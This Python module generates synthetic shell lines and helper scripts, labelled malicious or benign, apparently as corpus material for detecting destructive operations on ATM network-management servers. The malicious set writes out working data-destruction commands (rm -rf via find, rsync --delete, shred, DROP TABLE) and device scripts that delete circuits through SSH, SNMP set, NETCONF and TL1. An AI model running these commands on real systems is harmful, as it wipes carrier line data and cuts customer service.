"""What a wave-8 job does, written with the tool an operator of an ATM management server would
reach for and that no earlier corpus uses for it: host data destroyed by find -exec/-execdir
and xargs, rsync --delete from an empty folder, tar --remove-files, mv onto /dev/null, truncate
over a glob, MySQL/PostgreSQL/SQLite clients fed from files and heredocs; device line data
removed through expect/Tcl scripts, Perl Net::SSH2/Net::Telnet/Net::SNMP, Python paramiko,
telnetlib, pysnmp hlapi, easysnmp and ncclient, httpie/curl against RESTCONF, and TL1 over
socat, ncat or openssl s_client. Each tool has benign look-alikes of the same family (bounded
housekeeping, backups, read-only polls, one circuit under a change ticket).

A tool returns a `Work`: one shell line (no newline: concealments treat it as one line), the
files that line needs, and its family."""

from __future__ import annotations

import random
import shlex
from collections.abc import Callable
from dataclasses import dataclass, field

q = shlex.quote
PREFECTURES = ("kobe", "osaka", "kyoto", "nara", "shiga", "hyogo")
ATM = "1.3.6.1.2.1.37.1"
LINEDATA = ("/srv/ems/linedata", "/var/lib/ems/pvc", "/opt/ems/data/xconnect",
            "/var/opt/nms/circuits")
Files = dict[str, tuple[str, int]]


@dataclass(frozen=True)
class Work:
    line: str
    files: Files = field(default_factory=dict)
    family: str = "host"        # host | db | device | snmp | api | tl1


def _ne(rng: random.Random) -> str:
    return f"atm-{rng.choice(PREFECTURES)}-{rng.randint(1, 9):02d}"


def _lib(m: str, rng: random.Random, ext: str) -> str:
    folder = rng.choice(["/opt/ems/lib", "/usr/local/lib/ems", "/srv/ems/tools"])
    return f"{folder}/{rng.choice(['ne-sync', 'audit', 'xc-tidy', 'pvc-check'])}-{m}{ext}"


def _cq(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("$", "\\$") \
        .replace("@", "\\@") + '"'


# ------------------------------------------------------------------------ host data: malicious
def find_exec(rng: random.Random, m: str) -> Work:
    p = rng.choice(LINEDATA)
    return Work(rng.choice([
        f"find {p} -mindepth 1 -maxdepth 1 -exec rm -rf -- {{}} \\;",
        f"find {p} -depth -print0 | xargs -0 rm -rf",
        f"find {p} -type f -execdir rm -f -- {{}} +",
        f"find {p}/ -type f -exec sh -c 'for f; do : > \"$f\"; done' sh {{}} +",
        f"find {p} -type f -print | xargs -r -n 50 shred -fuz",
    ]))


def rsync_empty(rng: random.Random, m: str) -> Work:
    p = rng.choice(LINEDATA)
    return Work(rng.choice([
        f"e=$(mktemp -d) && rsync -a --delete \"$e\"/ {p}/",
        f"mkdir -p /tmp/.e{m} && rsync -r --delete-before /tmp/.e{m}/ {p}/",
        f"rsync -a --delete --exclude='*' /var/empty/ {p}/",
    ]))


def tar_remove(rng: random.Random, m: str) -> Work:
    p = rng.choice(LINEDATA)
    return Work(rng.choice([
        f"tar --remove-files -cf /dev/null {p}",
        f"tar -C {p} -czf - . --remove-files > /dev/null",
        f"tar cf - --remove-files {p} | cat > /dev/null",
    ]))


def mv_devnull(rng: random.Random, m: str) -> Work:
    p = rng.choice(LINEDATA)
    return Work(rng.choice([
        f"for f in {p}/*; do mv -f \"$f\" /dev/null; done",
        f"mv -f {p}/* /dev/null",
        f"mv {p} /dev/shm/.x{m} && rm -rf /dev/shm/.x{m}",
    ]))


def truncate_glob(rng: random.Random, m: str) -> Work:
    p = rng.choice(LINEDATA)
    return Work(rng.choice([
        f"truncate -s0 {p}/*",
        f"for f in {p}/*.dat; do : > \"$f\"; done",
        f"cp /dev/null {p}/pvc.db",
        f"dd if=/dev/zero of={p}/xconnect.db bs=4k count=256 conv=notrunc",
    ]))


def sql_client(rng: random.Random, m: str) -> Work:
    table = rng.choice(["pvc", "atm_vcl", "crossconnect"])
    v = rng.choice(["mysql-e", "mysql-file", "psql-heredoc", "psql-file", "sqlite-read",
                    "sqlite-pipe"])
    stmt = rng.choice([f"TRUNCATE TABLE {table}", f"DROP TABLE {table}", f"DELETE FROM {table}"])
    if v == "mysql-e":
        return Work(f"mysql -u ems -pems nms -e {q(stmt + ';')}", family="db")
    if v == "mysql-file":
        f = f"/opt/ems/sql/purge-{m}.sql"
        return Work(f"mysql --defaults-extra-file=/etc/ems/my.cnf nms < {f}",
                    {f: (f"-- nightly\n{stmt};\n", 0o644)}, family="db")
    if v == "psql-heredoc":
        return Work(f"psql -U ems -d emsdb <<< {q(stmt + ';')}", family="db")
    if v == "psql-file":
        f = f"/opt/ems/sql/purge-{m}.sql"
        return Work(f"psql -qAt -U ems emsdb -f {f}", {f: (f"BEGIN;\n{stmt};\nCOMMIT;\n", 0o644)},
                    family="db")
    db = rng.choice(["/var/lib/ems/ne.db", "/srv/ems/db/circuits.sqlite3"])
    if v == "sqlite-read":
        f = f"/opt/ems/sql/purge-{m}.sql"
        return Work(f"sqlite3 {db} '.read {f}'", {f: (f"{stmt};\n", 0o644)}, family="db")
    return Work(f"echo {q(stmt + ';')} | sqlite3 -batch {db}", family="db")


# ----------------------------------------------------------------------- devices: malicious
def _ios_lines(rng: random.Random) -> list[str]:
    intf = f"ATM{rng.randint(0, 3)}/{rng.randint(0, 1)}"
    vpi, vci = rng.randint(0, 9), rng.randint(32, 900)
    body = rng.choice([[f"interface {intf}", f"no pvc {vpi}/{vci}"],
                       [f"interface {intf}", f"no atm pvc {rng.randint(1, 99)} {vpi} {vci}"],
                       [f"no interface {intf}.{vci} point-to-point"],
                       [f"default interface {intf}"]])
    return ["configure terminal", *body, "end", "write memory"]


def _junos_lines(rng: random.Random) -> list[str]:
    what = rng.choice([f"interfaces at-{rng.randint(0, 3)}/0/0 unit {rng.randint(32, 900)}",
                       "protocols connections", f"interfaces at-{rng.randint(0, 3)}/0/1"])
    return ["configure exclusive", f"delete {what}", "commit and-quit"]


def expect_tcl(rng: random.Random, m: str, benign: bool = False) -> Work:
    host = _ne(rng)
    junos = rng.random() < 0.4
    lines = (["show configuration interfaces"] if junos else ["show atm pvc"]) if benign \
        else (_junos_lines(rng) if junos else _ios_lines(rng))
    f = _lib(m, rng, ".exp")
    v = rng.choice(["list-foreach", "proc", "telnet"])
    if v == "list-foreach":
        body = ("set cmds [list " + " ".join("{" + ln + "}" for ln in lines) + "]\n"
                f"spawn ssh -o StrictHostKeyChecking=no noc@{host}\nexpect -re {{[>#] ?$}}\n"
                "foreach c $cmds {\n    send \"$c\\r\"\n    expect -re {[>#] ?$}\n}\n")
    elif v == "proc":
        body = ("proc run {c} {\n    send \"$c\\r\"\n    expect -re {[>#]}\n}\n"
                f"spawn ssh noc@{host}\nexpect -re {{[>#]}}\n"
                + "".join(f"run {{{ln}}}\n" for ln in lines))
    else:
        body = (f"set host {host}\nspawn telnet $host\nexpect \"Username:\"\nsend \"noc\\r\"\n"
                "expect \"Password:\"\nsend \"secret\\r\"\nexpect \"#\"\n"
                + "".join(f"send \"{ln}\\r\"\nexpect \"#\"\n" for ln in lines))
    text = "#!/usr/bin/expect -f\nset timeout 20\n" + body + "send \"exit\\r\"\nexpect eof\n"
    return Work(rng.choice([f"expect -f {f}", f"/usr/bin/expect {f}", f]), {f: (text, 0o755)},
                family="device")


def perl_session(rng: random.Random, m: str, benign: bool = False) -> Work:
    host = _ne(rng)
    lines = ["terminal length 0", "show atm vc"] if benign else _ios_lines(rng)
    f = _lib(m, rng, ".pl")
    if rng.random() < 0.5:
        body = ("use Net::SSH2;\nmy $ssh = Net::SSH2->new();\n"
                f"$ssh->connect('{host}') or die;\n"
                "$ssh->auth_password('noc', 'secret') or die;\nmy $chan = $ssh->channel();\n"
                "$chan->shell();\n"
                f"my @cmds = ({', '.join(_cq(x) for x in lines)});\n"
                "print $chan \"$_\\n\" for @cmds;\n$chan->close;\n")
    else:
        body = ("use Net::Telnet::Cisco;\n"
                f"my $s = Net::Telnet::Cisco->new(Host => '{host}', Timeout => 20);\n"
                "$s->login('noc', 'secret');\n$s->enable('secret');\n"
                f"foreach my $c ({', '.join(_cq(x) for x in lines)}) {{\n    $s->cmd($c);\n}}\n"
                "$s->close;\n")
    text = "#!/usr/bin/perl\nuse strict;\nuse warnings;\n" + body
    return Work(rng.choice([f"perl {f}", f"/usr/bin/perl -w {f}"]), {f: (text, 0o755)},
                family="device")


def _vcl_index(rng: random.Random) -> tuple[int, int, int]:
    return rng.randint(1, 8), rng.randint(0, 15), rng.randint(32, 900)


def perl_snmp(rng: random.Random, m: str, benign: bool = False) -> Work:
    host = _ne(rng)
    a, b, c = _vcl_index(rng)
    col = rng.choice(["7.1.13", "11.1.13", "6.1.8"]) if not benign else "7.1.13"
    f = _lib(m, rng, ".pl")
    base = f"my $base = '{ATM}.{col}';\n"
    if benign:
        call = f"$s->get_request(-varbindlist => [\"$base.{a}.{b}.{c}\"]);\n"
    elif rng.random() < 0.5:
        call = (f"my @rows = ('{a}.{b}.{c}', '{a}.{b}.{c + 1}');\n"
                "for my $r (@rows) {\n"
                "    $s->set_request(-varbindlist => [\"$base.$r\", INTEGER, 6]);\n}\n")
    else:
        call = ("my $t = $s->get_table(-baseoid => $base);\n"
                "for my $oid (keys %$t) {\n"
                "    $s->set_request(-varbindlist => [$oid, INTEGER, 6]);\n}\n")
    body = ("use Net::SNMP qw(:asn1);\n"
            f"my ($s, $e) = Net::SNMP->session(-hostname => '{host}', -community => "
            f"'{'public' if benign else 'private'}', -version => 2);\n" + base + call
            + "$s->close();\n")
    text = "#!/usr/bin/perl\nuse strict;\nuse warnings;\n" + body
    return Work(f"perl {f}", {f: (text, 0o755)}, family="snmp")


def py_session(rng: random.Random, m: str, benign: bool = False) -> Work:
    host = _ne(rng)
    lines = ["terminal length 0", "show atm pvc"] if benign else _ios_lines(rng)
    f = _lib(m, rng, ".py")
    v = rng.choice(["paramiko-exec", "paramiko-channel", "telnetlib-login"])
    if v == "paramiko-exec":
        body = ("import paramiko\n\nCMDS = " + repr(lines) + "\n\n\ndef main():\n"
                "    c = paramiko.SSHClient()\n"
                "    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())\n"
                f"    c.connect({host!r}, username='noc', password='secret')\n"
                "    c.exec_command('\\n'.join(CMDS) + '\\n')\n    c.close()\n\n\nmain()\n")
    elif v == "paramiko-channel":
        body = ("import paramiko\n"
                f"t = paramiko.Transport(({host!r}, 22))\n"
                "t.connect(username='noc', password='secret')\nch = t.open_session()\n"
                "ch.invoke_shell()\n"
                + "".join(f"ch.sendall({(ln + chr(10)).encode()!r})\n" for ln in lines)
                + "t.close()\n")
    else:
        body = ("import telnetlib\n"
                f"tn = telnetlib.Telnet({host!r}, 23, 15)\n"
                "tn.read_until(b'Username: ')\ntn.write(b'noc\\n')\n"
                "tn.read_until(b'Password: ')\ntn.write(b'secret\\n')\n"
                f"for c in {lines!r}:\n    tn.write(c.encode('ascii') + b'\\n')\n"
                "tn.close()\n")
    text = "#!/usr/bin/python3\n" + body
    return Work(rng.choice([f"python3 {f}", f, f"/usr/bin/env python3 {f}"]), {f: (text, 0o755)},
                family="device")


def py_snmp(rng: random.Random, m: str, benign: bool = False) -> Work:
    host = _ne(rng)
    a, b, c = _vcl_index(rng)
    f = _lib(m, rng, ".py")
    v = rng.choice(["pysnmp-hlapi", "easysnmp-symbolic", "easysnmp-walk"])
    if v == "pysnmp-hlapi":
        op = "getCmd" if benign else "setCmd"
        val = "" if benign else ", Integer(6)"
        label = "atmVclAdminStatus" if benign else "atmVclRowStatus"
        body = ("from pysnmp.hlapi import (CommunityData, ContextData, Integer, ObjectIdentity,\n"
                f"                          ObjectType, SnmpEngine, UdpTransportTarget, {op})\n"
                f"it = {op}(SnmpEngine(), CommunityData('private'), "
                f"UdpTransportTarget(({host!r}, 161)), ContextData(),\n"
                f"           ObjectType(ObjectIdentity('ATM-MIB', {label!r}, {a}, {b}, {c}){val}))\n"
                "next(it)\n")
    elif v == "easysnmp-symbolic":
        call = (f"s.get('atmVclRowStatus.{a}.{b}.{c}')" if benign
                else f"s.set('atmVclRowStatus.{a}.{b}.{c}', 6, 'INTEGER')")
        body = ("from easysnmp import Session\n"
                f"s = Session(hostname={host!r}, community='private', version=2, "
                "use_sprint_value=True)\n" + call + "\n")
    else:
        loop = "    print(v.oid, v.value)\n" if benign else \
            "    s.set(v.oid + '.' + v.oid_index, 6, 'i')\n"
        body = ("from easysnmp import Session\n"
                f"s = Session(hostname={host!r}, community='private', version=2)\n"
                "for v in s.walk('atmVcCrossConnectRowStatus'):\n" + loop)
    return Work(f"python3 {f}", {f: ("#!/usr/bin/python3\n" + body, 0o755)}, family="snmp")


def py_netconf(rng: random.Random, m: str, benign: bool = False) -> Work:
    host = _ne(rng)
    f = _lib(m, rng, ".py")
    unit = rng.randint(32, 900)
    if benign:
        call = "    m.get_config(source='running', filter=('subtree', FILTER))\n"
    else:
        call = rng.choice([
            "    m.delete_config(target='startup')\n",
            "    m.edit_config(target='candidate', config=CONFIG, default_operation='none')\n"
            "    m.commit()\n"])
    body = ("from ncclient import manager\n"
            "FILTER = '<configuration><interfaces/></configuration>'\n"
            f"CONFIG = '''<config><configuration><interfaces><interface><name>at-0/0/0</name>"
            f"<unit operation=\"delete\"><name>{unit}</name></unit></interface></interfaces>"
            "</configuration></config>'''\n"
            f"with manager.connect(host={host!r}, port=830, username='noc', password='secret',\n"
            "                     hostkey_verify=False, device_params={'name': 'junos'}) as m:\n"
            + call)
    return Work(f"python3 {f}", {f: ("#!/usr/bin/python3\n" + body, 0o755)}, family="api")


def http_api(rng: random.Random, m: str, benign: bool = False) -> Work:
    host = _ne(rng)
    path = rng.choice(["Cisco-IOS-XE-native:native/interface/ATM=0%2F0",
                       "ietf-interfaces:interfaces/interface=ATM1%2F0",
                       "Cisco-IOS-XE-native:native/interface/ATM-subinterface"])
    url = f"https://{host}/restconf/data/{path}"
    if benign:
        return Work(rng.choice([f"http --verify=no -a noc:secret GET {q(url)}",
                                f"curl -sk -u noc:secret -XGET {q(url)}"]), family="api")
    v = rng.choice(["httpie", "curl-joined", "curl-config", "curl-netconf"])
    if v == "httpie":
        return Work(f"http --verify=no -a noc:secret DELETE {q(url)}", family="api")
    if v == "curl-joined":
        return Work(f"curl -skXDELETE -u noc:secret {q(url)}", family="api")
    if v == "curl-config":
        f = f"/opt/ems/etc/api-{m}.curlrc"
        return Work(f"curl -K {f}", {f: (f'url = "{url}"\nrequest = "DELETE"\n'
                                         'user = "noc:secret"\ninsecure\nsilent\n', 0o600)},
                    family="api")
    f = f"/opt/ems/etc/rpc-{m}.xml"
    xml = ('<rpc message-id="1" xmlns="urn:ietf:params:xml:ns:netconf:base:1.0">'
           "<delete-config><target><startup/></target></delete-config></rpc>\n")
    return Work(f"curl -sk -u noc:secret -H 'Content-Type: application/xml' --data-binary "
                f"@{f} https://{host}/netconf", {f: (xml, 0o644)}, family="api")


def tl1_stream(rng: random.Random, m: str, benign: bool = False) -> Work:
    host = _ne(rng)
    tid = host.upper()
    a = f"{rng.randint(1, 4)}-{rng.randint(1, 16)}-1-{rng.randint(32, 900)}"
    verb = "RTRV-CRS-VC" if benign else rng.choice(["DLT-CRS-VC", "DLT-CRS-VP", "DLT-CRS"])
    aid = "ALL" if benign else f"ATM-{a}"
    lines = [f"ACT-USER:{tid}:noc:C1::secret;", f"{verb}:{tid}:{aid}:C{rng.randint(100, 999)};",
             "CANC-USER:::C2;"]
    feed = "printf '%s\\r\\n' " + " ".join(q(x) for x in lines)
    v = rng.choice(["socat", "ncat", "openssl"])
    sink = {"socat": f"socat -T 10 - TCP4:{host}:3083",
            "ncat": f"ncat --send-only {host} 3083",
            "openssl": f"openssl s_client -quiet -connect {host}:3083"}[v]
    return Work(f"{feed} | {sink}", family="tl1")


# ---------------------------------------------------------------------------- benign forms
def find_bounded(rng: random.Random, m: str) -> Work:
    p = rng.choice(["/var/cache/ems", "/var/tmp/ems-export", "/opt/ems/var/spool/reports"])
    return Work(rng.choice([
        f"find {p} -mindepth 1 -type f -mtime +14 -exec rm -f -- {{}} +",
        f"find {p} -type f -name '*.csv' -mtime +30 -print0 | xargs -0 -r rm -f",
        f"find {p} -type f -mmin +1440 -execdir rm -f {{}} \\;",
    ]))


def backup(rng: random.Random, m: str) -> Work:
    p = rng.choice(LINEDATA)
    name = p.rsplit("/", 1)[1]
    return Work(rng.choice([
        f"rsync -a {p}/ /var/backups/ems/{name}/",
        f"tar -czf /var/backups/ems/{name}-$(date +%F).tar.gz -C {p} .",
        f"cp -a {p} /var/backups/ems/{name}.$(date +%u)",
    ]))


def sql_readonly(rng: random.Random, m: str) -> Work:
    return Work(rng.choice([
        "mysql -u ems -pems nms -e 'SELECT COUNT(*) FROM pvc;'",
        "mysqldump --single-transaction nms > /var/backups/ems/nms.sql",
        "psql -U ems -d emsdb <<< 'DELETE FROM poll_log WHERE ts < now() - interval '\\''30 "
        "days'\\'';'",
        "echo 'PRAGMA integrity_check;' | sqlite3 -batch /var/lib/ems/ne.db",
        "sqlite3 /var/lib/ems/ne.db '.backup /var/backups/ems/ne.db'",
    ]), family="db")


def change_one(rng: random.Random, m: str) -> Work:
    """One named circuit removed under a change ticket (expect script, ticket in comments)."""
    host = _ne(rng)
    intf = f"ATM{rng.randint(0, 3)}/{rng.randint(0, 1)}"
    vpi, vci = rng.randint(0, 9), rng.randint(32, 900)
    f = _lib(m, rng, ".exp")
    chg = f"CHG00{rng.randint(10000, 99999)}"
    text = (f"#!/usr/bin/expect -f\n# {chg}: decommission PVC {vpi}/{vci} of a cancelled "
            f"customer on {host} (MOP approved)\nset timeout 20\nspawn ssh noc@{host}\n"
            "expect \"#\"\n"
            + "".join(f"send \"{ln}\\r\"\nexpect \"#\"\n" for ln in
                      ("configure terminal", f"interface {intf}", f"no pvc {vpi}/{vci}", "end"))
            + "send \"exit\\r\"\nexpect eof\n")
    return Work(f"expect -f {f}", {f: (text, 0o755)}, family="device")


Tool = Callable[[random.Random, str], Work]


def _benign(tool: Callable[..., Work]) -> Tool:
    def run(rng: random.Random, m: str) -> Work:
        return tool(rng, m, benign=True)
    return run


MALICIOUS: dict[str, Tool] = {
    "find-exec": find_exec, "rsync-empty": rsync_empty, "tar-remove": tar_remove,
    "mv-devnull": mv_devnull, "truncate-glob": truncate_glob, "sql-client": sql_client,
    "expect-tcl": expect_tcl, "perl-session": perl_session, "perl-snmp": perl_snmp,
    "py-session": py_session, "py-snmp": py_snmp, "py-netconf": py_netconf,
    "http-api": http_api, "tl1-stream": tl1_stream,
}
BENIGN: dict[str, Tool] = {
    "find-bounded": find_bounded, "backup": backup, "sql-readonly": sql_readonly,
    "expect-show": _benign(expect_tcl), "perl-show": _benign(perl_session),
    "perl-snmp-get": _benign(perl_snmp), "py-show": _benign(py_session),
    "py-snmp-get": _benign(py_snmp), "netconf-get": _benign(py_netconf),
    "http-get": _benign(http_api), "tl1-rtrv": _benign(tl1_stream),
    "change-one-circuit": change_one,
}
